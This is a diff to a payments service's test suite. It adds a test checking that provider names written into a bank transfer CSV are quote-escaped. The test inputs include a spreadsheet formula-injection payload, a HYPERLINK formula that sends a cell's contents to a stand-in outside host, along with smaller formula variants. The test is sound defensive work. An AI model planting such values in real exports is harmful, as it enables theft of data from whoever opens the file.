@@ -7,6 +7,7 @@ from typing import Any
 from uuid import UUID
 
 import httpx
+import pytest
 import pytest_asyncio
 from pypdf import PdfReader
 from python_calamine import CalamineWorkbook
@@ -14,6 +15,7 @@ from python_calamine import CalamineWorkbook
 from chassis.db import Database
 from chassis.testing import Tokens, once
 from svc_payments.ledger.queries import trial_balance
+from svc_payments.parties.providers.models import Provider
 from svc_payments.settings import Settings
 from tests.svc_payments.reconciliation.runs.books import ingest, reconcile, sample_payment, statement_of
 from tests.svc_payments.settlement.bookings import DAY, add_booked_payment
@@ -99,6 +101,19 @@ async def test_the_last_line_of_a_file_has_its_totals(settlement: dict[str, Any]
     *lines, last = plain.decode().splitlines(keepends=True)
     assert next(csv.reader([last])) == ["合计", "1", "36.40", hashlib.sha256("".join(lines).encode()).hexdigest()]
     assert next(csv.reader([lines[2]]))[1:3] == [UUID(settlement["settlement_id"]).hex, DAY.isoformat()]
+
+
+@pytest.mark.parametrize("name", ['=HYPERLINK("https://x.example/?"&F3,"伊犁水务")', "＝1+1", "\t=1", " +1"])
+async def test_a_providers_name_never_runs_in_the_bank_file(
+    database: Database, settlement: dict[str, Any], one: Staff, name: str
+) -> None:
+    async with database.transaction() as tx:
+        provider = await tx.get_one(Provider, UUID(settlement["provider_id"]))
+        provider.name = name
+    file = (await one.post("/transfer-files")).json()
+    content = (await one.get(f"/transfer-files/{file['transfer_file_id']}/content")).content.decode()
+    _, _, row, _ = csv.reader(io.StringIO(content, newline=""))
+    assert row[4] == f"'{name}"
 
 
 async def test_a_provider_sees_its_own_settlements_only(
